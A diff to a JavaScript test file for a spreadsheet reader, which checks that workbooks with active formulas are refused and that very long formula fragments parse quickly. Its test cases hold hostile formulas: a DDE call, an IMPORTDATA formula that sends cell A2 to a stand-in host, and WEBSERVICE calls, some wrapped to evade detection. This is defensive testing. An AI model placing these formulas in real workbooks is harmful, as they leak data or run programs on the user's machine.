@@ -44,6 +44,8 @@ describe("a workbook that fetches, sends or runs something when it is opened is 
     ["DDE", 'DDE("soffice","a.ods","A1")'],
     ["IMPORTDATA", 'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""https://x.example/?""&A2)"),"x")'],
     ["WEBSERVICE", '__xludf.DUMMYFUNCTION("A1&""")&WEBSERVICE("https://x.example")'],
+    ["WEBSERVICE", '"open & WEBSERVICE(A2)'],
+    ["WEBSERVICE", "[[&WEBSERVICE(A2)"],
   ])("%s in the formula of a cell: %s", async (name, formula) => {
     const problem = await refusal(read(payouts(formula)));
     expect(problem).toMatchObject({ code: "WORKBOOK_IS_ACTIVE", sheet: "Payouts", cell: "C2" });
@@ -146,6 +148,13 @@ describe("what bookkeepers use is read: it only calculates, or waits for a click
   ])("the formula %s", async (formula) => {
     expect((await read(payouts(formula))).texts).toEqual([["1", "2", "x"]]);
   });
+
+  test.each(["[", "['", "'a", '"', '__xludf.DUMMYFUNCTION("""'])(
+    "a formula of %s hundreds of thousands of times takes no more time than another",
+    async (piece) => {
+      expect((await read(payouts(piece.repeat(300_000 / piece.length)))).texts).toEqual([["1", "2", "x"]]);
+    },
+  );
 
   test.each([
     [
